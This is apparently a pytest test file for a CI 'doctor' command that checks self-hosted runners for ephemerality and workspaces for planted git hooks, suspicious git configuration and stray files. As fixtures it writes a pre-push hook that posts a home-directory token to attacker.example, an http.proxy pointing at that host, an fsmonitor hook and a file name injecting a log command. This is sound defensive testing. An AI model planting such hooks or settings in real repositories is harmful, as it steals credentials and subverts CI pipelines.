"""``seedtree doctor`` in a retrain job: it sees an ephemeral runner (its ``.runner`` file), warns
loudly on any other self-hosted one, and fails on a workspace that another job wrote into (real
repositories with planted hooks and git configuration)."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path

import pytest

from helpers import git
from retrain.support import write_settings
from seedtree.cli import run
from seedtree.retrain.runner import check_runner, check_workspace

JOB = {"GITHUB_ACTIONS": "true", "RUNNER_ENVIRONMENT": "self-hosted", "RUNNER_NAME": "gpu-1"}


def _runner(root: Path, **settings: object) -> dict[str, str]:
    """A runner's folder as the runner lays it out, and the environment it gives a job."""
    temp = root / "_work" / "_temp"
    temp.mkdir(parents=True)
    text = json.dumps({"agentId": 7, "agentName": "gpu-1", "workFolder": "_work", **settings})
    (root / ".runner").write_text("\ufeff" + text, encoding="utf-8")  # the runner writes a BOM
    return {**JOB, "RUNNER_TEMP": str(temp), "RUNNER_WORKSPACE": str(root / "_work" / "taxonomy")}


def test_an_ephemeral_runner_is_reported(tmp_path: Path) -> None:
    check = check_runner(_runner(tmp_path, ephemeral=True))
    assert check.status == "ok" and "gpu-1 is ephemeral" in check.detail


def test_a_persistent_runner_is_a_loud_warning(tmp_path: Path) -> None:
    check = check_runner(_runner(tmp_path))
    assert check.status == "warn" and "persistent self-hosted runner" in check.detail
    assert "ephemeral just-in-time runner" in check.fix and "runner group" in check.fix
    assert check.line().startswith("WARN runner")
    nothing = check_runner(JOB)  # no settings file to be found at all
    assert nothing.status == "warn" and "no .runner file found" in nothing.detail


def test_outside_a_job_there_is_no_runner_to_judge(tmp_path: Path) -> None:
    assert check_runner({}).status == "skip"
    assert check_workspace(tmp_path, {}).status == "skip"


def test_a_checkout_is_a_clean_workspace(make_repo: Callable[..., Path]) -> None:
    repo = make_repo()
    git(repo, "remote", "add", "origin", "https://github.com/owner/taxonomy")
    (repo / "tooling.egg-info").mkdir()  # what the install step leaves
    (repo / ".gitignore").write_text("*.egg-info/\n")
    git(repo, "add", ".gitignore")
    git(repo, "commit", "-q", "-m", "ignore")
    check = check_workspace(repo, JOB)
    assert check.status == "ok", check.detail


def test_planted_hooks_and_configuration_fail(make_repo: Callable[..., Path]) -> None:
    repo = make_repo()
    hook = repo / ".git" / "hooks" / "pre-push"
    hook.write_text("#!/bin/sh\ncurl -d @$HOME/.token https://attacker.example\n")
    hook.chmod(0o755)
    git(repo, "config", "core.fsmonitor", "/tmp/fsmonitor.sh")
    git(repo, "config", "http.proxy", "http://attacker.example:3128")
    check = check_workspace(repo, JOB)
    assert check.status == "fail"
    assert "pre-push" in check.detail and "core.fsmonitor" in check.detail
    assert "http.proxy" in check.detail and "delete" in check.fix


def test_files_the_job_did_not_check_out_are_a_warning(make_repo: Callable[..., Path]) -> None:
    repo = make_repo()
    (repo / "taxonomy" / "left-behind.yaml").write_text("x: 1\n")
    (repo / "x\n::error::gate passed").write_text("")  # a name that would be a log command
    check = check_workspace(repo, JOB)
    assert check.status == "warn" and "taxonomy/left-behind.yaml" in check.detail
    assert "\n" not in check.detail and "x\\x0a::error::gate passed" in check.detail


def test_doctor_prints_both_and_annotates_the_warning(
    make_repo: Callable[..., Path],
    tiny_model_dir: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    repo = make_repo()
    write_settings(repo, tiny_model_dir)
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "settings")
    (repo / ".git" / "hooks" / "post-checkout").write_text("#!/bin/sh\n")
    for name, value in _runner(tmp_path / "runner").items():
        monkeypatch.setenv(name, value)
    assert run(["doctor", "--allow-cpu", "-C", str(repo)]) == 2
    out = capsys.readouterr().out
    assert "WARN runner     gpu-1 is a persistent self-hosted runner" in out
    assert "::warning title=seedtree doctor: runner::" in out
    assert "FAIL workspace  hooks in .git/hooks: post-checkout" in out
